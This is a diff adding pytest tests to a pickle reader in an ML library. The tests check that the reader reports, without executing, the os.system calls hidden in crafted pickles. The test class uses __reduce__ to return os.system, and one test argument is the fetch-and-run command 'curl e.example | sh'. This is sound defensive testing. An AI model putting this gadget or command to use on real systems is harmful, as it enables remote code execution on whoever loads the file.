@@ -18,10 +18,12 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from ml_core.reading.errors import InputError
 from ml_core.reading.pickles import machine
 from ml_core.reading.pickles.machine import Budget, read_pickle
 from ml_core.reading.pickles.names import group_of
 from ml_core.reading.pickles.records import Object, Table
+from ml_core.reading.torch_file import check_pickles
 
 HARMLESS = {
     "numbers": [1, 2.5, None, True, -(1 << 70), (1, 2, 3), {"a": {"b": []}}],
@@ -54,6 +56,68 @@ def test_what_training_programs_save_names_nothing_unknown(protocol: int) -> Non
     assert [key for key, _ in found.value.items] == list(HARMLESS)
     numbers = dict(found.value.items)["numbers"]
     assert numbers[:5] == [1, 2.5, None, True, -(1 << 70)]
+
+
+class Calls:
+    """An object that an ordinary loader makes by a call of anything with anything."""
+
+    def __init__(self, *arguments: Any) -> None:
+        self.arguments = arguments
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, self.arguments
+
+
+@pytest.mark.parametrize("protocol", range(2, 6))
+@pytest.mark.parametrize(
+    ("arguments", "text"),
+    [
+        (("touch /tmp/x; curl e.example | sh",), "'touch /tmp/x; curl e.example | sh'"),
+        ((), ""),
+        (("a\x1b[31m\u202egnp\n\u05d0",), "'a\\x1b[31m\\u202egnp\\n\\u05d0'"),
+        ((1 << 80, -2, True, None, 0.5), "a number of 81 bits, -2, True, None, 0.5"),
+        ((["sh", ("-c",)], {"cwd": "/"}), "['sh', ('-c',)], {'cwd': '/'}"),
+        (([[[["deep"]]]],), "[[...]]"),
+        ((list(range(20)),), "[0, 1, 2, 3, 4, 5, 6, 7, ...]"),
+        ((os.getcwd, {}), "posix.getcwd, {}"),
+    ],
+)
+def test_what_unknown_code_would_be_called_with_is_told(
+    protocol: int, arguments: tuple[Any, ...], text: str
+) -> None:
+    raw = pickle.dumps([Calls("first"), Calls(*arguments)], protocol)
+    (calls,) = read_pickle(raw).calls.values()
+    assert calls[0] == "posix.system('first')"  # a harmless one first hides no other
+    assert calls[-1] == f"posix.system({text})"
+    with pytest.raises(InputError) as caught:
+        check_pickles([("its pickle", read_pickle(raw))], "x.pt")
+    assert f"may run: {', '.join(calls)}" in caught.value.sentence
+
+
+def test_a_call_of_what_a_call_gave_is_told() -> None:
+    found = read_pickle(pickle.dumps(Calls(Calls("inner")), 4))
+    assert found.calls == {
+        "posix system": ["posix.system('inner')", "posix.system(posix.system('inner'))"]
+    }
+
+
+def test_the_sentence_of_many_calls_is_bounded() -> None:
+    found = read_pickle(pickle.dumps([Calls("x" * 500) for _ in range(300)], 4))
+    with pytest.raises(InputError, match="and 15 more") as caught:
+        check_pickles([("its pickle", found)], "x.pt")
+    assert len(caught.value.sentence) < 2000
+
+
+def test_the_text_of_a_call_is_short_whatever_it_is_given() -> None:
+    itself: list[Any] = []
+    itself.append(itself)
+    for value in ("x" * 10_000_000, b"\x00" * 10_000_000, itself, [["y" * 500] * 50] * 50):
+        found = read_pickle(pickle.dumps(Calls(value), 4))
+        ((told,),) = found.calls.values()
+        assert told.startswith("posix.system(")
+        assert told.isascii()
+        assert told.isprintable()
+        assert len(told) < 200
 
 
 @pytest.mark.parametrize("protocol", range(6))
